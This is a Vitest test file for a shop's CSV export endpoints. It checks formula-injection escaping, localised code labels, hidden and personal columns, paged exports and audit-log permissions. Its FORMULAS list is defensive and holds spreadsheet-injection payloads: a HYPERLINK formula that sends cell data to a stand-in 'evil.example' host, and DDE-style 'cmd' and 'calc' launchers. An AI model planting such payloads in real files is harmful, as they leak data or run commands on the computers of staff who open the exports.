import { afterAll, beforeAll, expect, test } from 'vitest';
import type { z } from 'zod';
import { EXPORTED_AT_ONCE } from '#features/search/domain/exported-at-once.ts';
import { listColumns } from '#features/search/domain/list-columns.ts';
import { personalColumns } from '#features/search/domain/personal-columns.ts';
import { givenPerson } from '../support/office-people.ts';
import { contracts } from './support/contracts.ts';
import {
  beginPlanWithCard,
  givenOfficeShop,
  makePaidOrder,
  type OfficeShop,
  openOfficeShop,
  receiveStrayMoney,
  requestRefund,
} from './support/situations.ts';

/* In a file that staff open with a spreadsheet, nothing that customers typed is a formula. */

let shop: OfficeShop;

beforeAll(async () => {
  shop = await givenOfficeShop(await openOfficeShop());
  const order = await makePaidOrder(shop);
  await requestRefund(shop, order);
  await beginPlanWithCard(shop);
  await receiveStrayMoney(shop, 1_234);
  await shop.app.settle();
  // Buyers in documents are customers too, so this test must be able to rewrite their names.
  await shop.app.db.run('alter table invoices disable trigger invoices_are_final');
});
afterAll(() => shop.app.close());

interface ExportedPart {
  csv: string;
  next: string | null;
}

/** The filter with which each list is exported here. */
const FILTERS: Readonly<Record<string, object>> = {
  'orders-export': {},
  'tickets-export': {},
  'people-export': {},
  'receipts-export': {},
  'refunds-export': { view: 'all' },
  'plans-export': { view: 'all' },
  'invoices-export': {},
  'mails-export': {},
  'audit-export': {},
};

const answersWithCsv = contracts
  .filter(({ answer }) => 'csv' in ((answer as z.ZodObject).shape ?? {}))
  .map(({ name }) => name);

test('every call that returns a spreadsheet is tested', () => {
  expect(Object.keys(FILTERS).toSorted()).toEqual(answersWithCsv.toSorted());
});

const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  '+31-6-1234',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(A1:A9)',
  '|calc',
  '%0A=1',
  '＝1+1',
  ' =1+1',
  '\t=1+1',
  'Mila","=1+1","x',
  'Mila\r\n=1+1',
];

/** Replaces names, addresses and words as if customers and payers had typed this text. */
async function replaceTexts(text: string): Promise<void> {
  const columns = await shop.app.db.rows<{ table: string; column: string }>(
    `select table_name as table, column_name as column from information_schema.columns
     where table_schema = 'public' and data_type = 'text' and (table_name, column_name) in (
       ('orders', 'customer_name'), ('orders', 'customer_email'), ('customers', 'full_name'), ('customers', 'email'),
       ('tickets', 'full_name'), ('tickets', 'email'), ('receipts', 'said'), ('refunds', 'note'), ('refunds', 'reason'),
       ('mails', 'subject'))`,
  );
  expect(columns).toHaveLength(10);
  for (const { table, column } of columns) await shop.app.db.run(`update "${table}" set "${column}" = $1`, [text]);
  await shop.app.db.run(`update invoices set content = jsonb_set(content, '{buyer,lines,0}', to_jsonb($1::text))`, [
    text,
  ]);
}

/** Returns the cells of a CSV, read by RFC 4180 independently of the code that writes it. */
const cellsOf = (csv: string): string[] =>
  [...csv.replace(/^\uFEFF/, '').matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell]) =>
    cell!.replaceAll('""', '"'),
  );

test.each(FORMULAS)('%j is text in every export', async (formula) => {
  await replaceTexts(formula);
  const words = formula.replace(/^[^\p{L}\p{N}]*/u, '').replace(/\s+/g, ' ');
  for (const [name, filter] of Object.entries(FILTERS)) {
    const { csv, rows } = await shop.owner.browser.done(name, { filter });
    expect([name, rows > 0]).toEqual([name, true]);
    const cells = cellsOf(csv);
    expect([name, cells.length % (rows + 1)]).toEqual([name, 0]);
    // The text is there, in one cell. The audit log does not contain customers' names.
    expect([name, cells.some((cell) => cell.endsWith(words))]).toEqual([name, name !== 'audit-export']);
    for (const cell of cells) {
      expect(cell, name).not.toMatch(/[\r\n\t]/);
      if (!/^-\d+(\.\d+)?$/.test(cell)) expect(cell, name).not.toMatch(/^\s*[=+\-@|%＝＋－＠]/u);
    }
  }
});

test('an export has the words of the screen in the person’s language, each next to its code', async () => {
  const { browser } = await givenPerson(shop.app, 'Liest Deutsch', ['owner']);
  await browser.done('my-settings', { language: 'de' });
  const pairsIn = async (call: string) => {
    const { csv, rows } = await browser.done(call, { filter: FILTERS[call] });
    const cells = cellsOf(csv);
    const width = cells.length / (rows + 1);
    const [headings, ...lines] = Array.from({ length: rows + 1 }, (_, row) =>
      cells.slice(row * width, (row + 1) * width),
    );
    return headings!.flatMap((heading, column) =>
      heading.endsWith('_code') ? lines.map((line) => [heading, line[column], line[column - 1]].join(' ')) : [],
    );
  };
  const pairs: string[] = [];
  for (const call of answersWithCsv) pairs.push(...(await pairsIn(call)));
  expect(pairs).toEqual(
    expect.arrayContaining([
      'status_code paid Bezahlt',
      'method_code credit_card Karte',
      'fully_paid_code yes Ja',
      'way_code bank Bank',
      'state_code active Beantragt',
      'kind_code invoice Rechnung',
    ]),
  );
  // Every code has words; a provider's number is its own code.
  expect(pairs.filter((pair) => /^(?!number_)\w+ (\S*) \1$/.test(pair))).toEqual([]);
});

test('an export leaves out the columns that the list hides, and has all of them otherwise', async () => {
  for (const [list, columns] of Object.entries(listColumns)) {
    const call = `${list.split('/').at(-1)}-export`;
    const headings = async (without: readonly string[]) => {
      const { csv } = await shop.owner.browser.done(call, { filter: FILTERS[call], without });
      return cellsOf(`${(csv as string).split('\r\n')[0]}\r\n`);
    };
    const all = await headings([]);
    const hidden = Object.values(columns).flat();
    expect(all).toEqual(expect.arrayContaining(hidden));
    expect([call, await headings(hidden)]).toEqual([
      call,
      all.filter((heading) => !hidden.includes(heading.replace(/_code$/, ''))),
    ]);
  }
});

test('an exported audit entry about a colleague contains their name instead of their id', async () => {
  const colleague = await givenPerson(shop.app, 'Ada Lovelace', ['support']);
  const filter = { action: 'staff.', subject: `staff ${colleague.id}` };
  const { csv, rows } = await shop.owner.browser.done('audit-export', { filter });
  expect(rows).toBeGreaterThan(0);
  expect(csv).not.toContain(`staff ${colleague.id}`);
  expect(linesAbout(csv, 'Ada Lovelace')).toBe(rows);
});

/** Counts the lines with this text in the column `about`. */
function linesAbout(csv: string, about: string): number {
  const cells = cellsOf(csv);
  return cells.filter((cell, index) => index % 7 === 3 && cell === about).length;
}

test('without the right to manage staff, the exported audit log has no entries about accounts', async () => {
  const manager = await givenPerson(shop.app, 'Charles Babbage', ['manager']);
  const filter = { action: '', subject: '' };
  const { csv, rows } = await manager.browser.done('audit-export', { filter });
  expect(rows).toBeGreaterThan(0);
  expect(cellsOf(csv).filter((cell) => cell.startsWith('staff.'))).toEqual([]);
  const about = { action: 'staff.', subject: '' };
  expect((await manager.browser.done('audit-export', { filter: about })).rows).toBe(0);
  expect((await shop.owner.browser.done('audit-export', { filter: about })).rows).toBeGreaterThan(0);
});

test('an export without the columns that contain names has no names', async () => {
  await replaceTexts('Somebody’s words');
  for (const [list, columns] of Object.entries(personalColumns)) {
    const call = `${list.split('/').at(-1)}-export`;
    const parts = { filter: FILTERS[call], without: columns };
    expect([call, (await shop.owner.browser.done(call, { ...parts, without: [] })).csv]).toEqual([
      call,
      expect.stringContaining('Somebody’s words'),
    ]);
    expect([call, (await shop.owner.browser.done(call, parts)).csv]).toEqual([
      call,
      expect.not.stringContaining('Somebody’s words'),
    ]);
  }
});

test('a long list is exported in parts, which have every row once and the headings once', async () => {
  const { db } = shop.app;
  const count = 2 * EXPORTED_AT_ONCE + 1;
  await db.run(
    `insert into mails (kind, recipient, subject, html, body_text, sealed, attachments, message_id, status, tries,
       created_at, sent_at, excused, recipient_hash, wiped_at, order_id)
     select kind, recipient, 'Part ' || number, html, body_text, sealed, attachments, 'part-' || number, status, tries,
       created_at, sent_at, excused, recipient_hash, wiped_at, order_id
     from (select * from mails where status = 'sent' limit 1) mail, generate_series(1, $1) number`,
    [count],
  );
  await db.run(
    `insert into audit_log (at, actor, action, subject)
     select $2, 'system', 'test.part', 'Part ' || number from generate_series(1, $1) number`,
    [count, shop.app.clock.now()],
  );
  for (const [call, filter, heading] of [
    ['mails-export', { text: '' }, 'subject'],
    ['audit-export', { action: 'test.part', subject: '' }, 'at'],
  ] as const) {
    const parts: string[] = [];
    let after: string | null = null;
    do {
      const { csv, next } = (await shop.owner.browser.done(call, { filter, after })) as ExportedPart;
      parts.push(csv);
      after = next;
    } while (after !== null);
    expect([call, parts.length]).toEqual([call, 3]);
    const numbers = [...parts.join('').matchAll(/"Part (\d+)"/g)].map(([, number]) => Number(number));
    expect([call, numbers.length, new Set(numbers).size]).toEqual([call, count, count]);
    expect(parts.map((csv) => csv.startsWith(`\uFEFF"${heading}"`))).toEqual([true, false, false]);
  }
  await db.run(`delete from mails where message_id like 'part-%'`);
});

test('an export from an unknown position is refused instead of starting again', async () => {
  for (const call of answersWithCsv) {
    const { status, body } = await shop.owner.browser.call(call, { filter: FILTERS[call], after: 'nowhere' });
    expect([call, status, Object.keys(body.errors ?? {})]).toEqual([call, 422, ['after']]);
  }
});

test('the audit log is exported as its filters show it, without addresses, and audited', async () => {
  const filter = { action: 'list.people', subject: '' };
  const { csv, rows } = await shop.owner.browser.done('audit-export', { filter });
  expect(rows).toBeGreaterThan(0);
  expect(csv.startsWith('\uFEFF"at","action","action_code","about","who","via","details"')).toBe(true);
  expect(cellsOf(csv).filter((cell) => cell === 'list.people')).toHaveLength(rows);
  expect(csv).not.toMatch(/127\.0\.0\.1|Mozilla/);
  const [entry] = await shop.app.db.rows(`select details from audit_log where action = 'list.audit' order by id desc`);
  expect(entry).toEqual({ details: { rows } });
  const support = await givenPerson(shop.app, 'No log', ['support']);
  expect((await support.browser.call('audit-export', { filter })).status).toBe(403);
});
